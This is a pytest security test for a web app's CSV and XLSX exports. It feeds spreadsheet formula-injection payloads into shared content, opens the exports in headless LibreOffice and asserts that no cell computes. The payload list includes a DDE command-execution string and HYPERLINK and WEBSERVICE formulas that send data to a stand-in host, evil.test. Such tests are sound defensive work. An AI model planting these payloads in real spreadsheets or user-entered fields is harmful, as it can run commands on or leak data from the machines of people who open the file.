"""What the hub hands out is opened in a spreadsheet program that others wrote: no cell computes anything."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.web.conftest import Site, fill, site
from tests.web.test_finding import share

__all__ = ["site"]
FORMULAS = (
    "=1+41", "+1+41", "-1+43", "@SUM(1,41)", "\t=1+41", "\r=1+41", "\n=1+41", "=cmd|' /C calc'!A0", "＝1+41", "＋1+41", "－1+43", "＠SUM(1,41)",
    '=HYPERLINK("https://evil.test?x="&A1,"42")', "=WEBSERVICE(\"https://evil.test\")", '"=1+41', "' =1+41", "=1+41;=1+41", "%0A=1+41",
)  # fmt: skip


FILES = [
    ("/opportunities.csv", "list.csv"),
    ("/export/file?format=csv", "out.csv"),
    ("/export/file?format=xlsx", "out.xlsx"),
]


@pytest.mark.secure
@pytest.mark.parametrize(("path", "name"), FILES)
def test_no_cell_of_what_is_handed_out_is_a_formula(site: Site, tmp_path: Path, path: str, name: str) -> None:
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("LibreOffice is not installed (apt install libreoffice-calc-nogui), so nothing was opened in it.")
    fill(site.hub)
    for text in FORMULAS:
        share(site, text)
    answer = site.client("staff.oak").get(path)
    assert answer.status_code == 200
    (tmp_path / name).write_bytes(answer.data)
    profile = f"-env:UserInstallation=file://{tmp_path / 'profile'}"
    # 44 comma, 34 quote, 76 UTF-8, from line 1; the last part shows formulas instead of what they come to.
    shown = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true"
    read = ["--infilter=CSV:44,34,76,1"] if name.endswith(".csv") else []
    command = [
        office,
        profile,
        "--headless",
        *read,
        "--convert-to",
        shown,
        "--outdir",
        str(tmp_path / "shown"),
        str(tmp_path / name),
    ]
    done = subprocess.run(command, capture_output=True, text=True, timeout=180, check=False)
    assert done.returncode == 0, done.stderr
    cells = {
        cell
        for row in csv.reader(io.StringIO((tmp_path / "shown" / f"{Path(name).stem}.csv").read_text()))
        for cell in row
    }
    stripped = {cell.strip().lstrip("'").strip() for cell in cells}
    for text in FORMULAS:
        assert any(text.strip().lstrip("'").strip()[:6] in cell for cell in stripped), f"{text!r} is not in {path}"
    assert not {cell for cell in cells if cell.startswith("=")}, "a formula"
    assert "42" not in stripped, "something was computed"
